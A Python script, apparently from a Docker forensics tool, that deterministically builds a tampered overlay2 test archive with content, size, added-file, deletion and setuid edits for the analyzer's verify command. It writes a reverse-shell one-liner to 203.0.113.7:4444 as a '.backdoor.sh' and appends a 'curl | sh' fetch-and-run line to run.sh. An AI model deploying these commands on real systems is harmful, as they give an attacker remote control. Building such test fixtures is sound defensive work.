"""Build ``samples/overlay2-tampered/`` from the real overlay2 sample, deterministically.

What: streams ``samples/overlay2/docker-root.tar.zst`` (zstandard → ``tarfile`` ``r|``
→ ``tarfile`` ``w|`` pax → zstandard) and edits members inside the overlay2
``diff/`` folders of image layers of ``app:legacy``, the way an intruder editing
``/var/lib/docker`` would:

* ``content``: ``app/www/index.html`` gets other bytes of the same size;
* ``size``: ``app/run.sh`` grows (a line is appended);
* ``added``: ``app/www/.backdoor.sh`` is added next to ``index.html``;
* ``removed``: ``app/dup.txt`` is deleted;
* ``mode``: ``app/a.txt`` gets the setuid bit (metadata only, content unchanged).

Every other member (pax records, xattrs, times, hardlinks, devices) is copied as
it is. ``tampered.json`` lists exactly these edits (layer chain id, the layer's
cache id, path inside the layer, kind); ``python -m analyzer verify`` must report
exactly them. The folder has no ``truth/``: it is not a daemon-made sample, so the
parity tests do not pick it up.

Why a script: the derived archive is reproducible byte for byte from the
committed sample (fixed zstd level, single thread, no times taken from the
clock): ``python samples/make_tampered.py`` then ``git diff`` shows nothing.

References: ``shared/docs/docker-root-format.md`` §4.1 (overlay2 layout), §6
(what tar-split lets one verify); ``analyzer/analyses/verify.py``.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import sys
import tarfile
from pathlib import Path

import zstandard

HERE = Path(__file__).resolve().parent
SOURCE = HERE / "overlay2" / "docker-root.tar.zst"
OUT_DIR = HERE / "overlay2-tampered"
ROOT = "var/lib/docker"
ZSTD_LEVEL = 19

#: layer chain id → cache id (overlay2 folder) of the app:legacy layers edited
LAYERS = {
    "www": ("sha256:98dcbdbbda16a427f7546ac2a0f9305daac1ff1d2d4f7b950cfe4416978736f4",
            "bd17fecef74973b37b444a2ba7013bb67590c8873a90c69c6ce4a1dec2f47ca1"),
    "run": ("sha256:4838b899b51cf716993d65b63dd9629b3e9760658a83818c11771f9626de9de5",
            "3fa9deb9428d7774988f7e023b03ccc8b9469a9afac00dc40f49995e8e6c83d6"),
    "dup": ("sha256:3c3d7e65e6b82588e03811bfbffa2cfa353c1a9f3b25eba4c3afb8986b11b393",
            "8657e000c92931df79daef977ec025b0f1323893fc04f42debf735b6b6a1a769"),
    "a": ("sha256:c623e0145b705d126f4c632d2810ace580015e18597f1f220c41e229bfe40de7",
          "40b11b6bdc5129c937d43ca816bc3096aa4721de7b608cf670a881a6c5bbd55a"),
}
#: (layer key, path inside the layer, kind, description) — the edits, in this order
EDITS = [
    ("www", "app/www/index.html", "content", "same size, other bytes"),
    ("run", "app/run.sh", "size", "a line appended"),
    ("www", "app/www/.backdoor.sh", "added", "new executable file"),
    ("dup", "app/dup.txt", "removed", "file deleted"),
    ("a", "app/a.txt", "mode", "setuid bit added (chmod u+s)"),
]
BACKDOOR = b"#!/bin/sh\nexec /bin/sh -i >/dev/tcp/203.0.113.7/4444 0>&1 0<&1 2>&1\n"
RUN_APPEND = b"curl -s http://203.0.113.7/x | sh\n"


def _diff(key: str, inner: str) -> str:
    return f"{ROOT}/overlay2/{LAYERS[key][1]}/diff/{inner}"


def _same_size(data: bytes) -> bytes:
    """Other bytes of the same length (a defaced page)."""
    text = b"<h1>pwned</h1>\n" + b"!" * max(0, len(data))
    return text[:len(data)]


def build(source: Path = SOURCE, out_dir: Path = OUT_DIR) -> list[dict[str, str]]:
    """Write ``docker-root.tar.zst`` and ``tampered.json`` into ``out_dir``; return the edits."""
    content_path = _diff("www", "app/www/index.html")
    grow_path = _diff("run", "app/run.sh")
    add_after = _diff("www", "app/www/index.html")
    removed = _diff("dup", "app/dup.txt")
    chmod_path = _diff("a", "app/a.txt")
    done: set[str] = set()
    out_dir.mkdir(parents=True, exist_ok=True)
    target = out_dir / "docker-root.tar.zst"
    tmp = target.with_suffix(".tmp")
    with open(source, "rb") as raw, open(tmp, "wb") as sink:
        reader = zstandard.ZstdDecompressor().stream_reader(raw)
        writer = zstandard.ZstdCompressor(level=ZSTD_LEVEL, threads=0).stream_writer(sink)
        with tarfile.open(fileobj=reader, mode="r|") as tin, \
                tarfile.open(fileobj=writer, mode="w|", format=tarfile.PAX_FORMAT) as tout:
            for member in tin:
                data = tin.extractfile(member).read() if member.isreg() else None
                name = member.name.rstrip("/")
                if name == removed:
                    done.add("removed")
                    continue
                if name == content_path and data is not None:
                    data = _same_size(data)
                    done.add("content")
                elif name == grow_path and data is not None:
                    data = data + RUN_APPEND
                    member.size = len(data)
                    done.add("size")
                elif name == chmod_path:
                    member.mode |= 0o4000
                    done.add("mode")
                tout.addfile(member, io.BytesIO(data) if data is not None else None)
                if name == add_after:
                    new = copy.copy(member)
                    new.pax_headers = {k: v for k, v in member.pax_headers.items()
                                       if k in ("mtime", "atime", "ctime")}
                    new.name = _diff("www", "app/www/.backdoor.sh")
                    new.size = len(BACKDOOR)
                    new.mode = 0o755
                    tout.addfile(new, io.BytesIO(BACKDOOR))
                    done.add("added")
        writer.flush(zstandard.FLUSH_FRAME)
    missing = {kind for _k, _p, kind, _d in EDITS} - done
    if missing:
        tmp.unlink()
        raise SystemExit(f"make_tampered: members for {sorted(missing)} not found in {source}")
    tmp.replace(target)
    edits = [{"chain_id": LAYERS[key][0], "cache_id": LAYERS[key][1], "path": path,
              "kind": kind, "what": what} for key, path, kind, what in EDITS]
    doc = {
        "source": "samples/overlay2/docker-root.tar.zst",
        "source_sha256": hashlib.sha256(source.read_bytes()).hexdigest(),
        "archive_sha256": hashlib.sha256(target.read_bytes()).hexdigest(),
        "image": "app:legacy",
        "edits": edits,
    }
    (out_dir / "tampered.json").write_text(json.dumps(doc, indent=2) + "\n", encoding="utf-8")
    return edits


if __name__ == "__main__":
    for e in build():
        sys.stdout.write(f"{e['kind']:8} {e['chain_id'][:19]} {e['path']}\n")
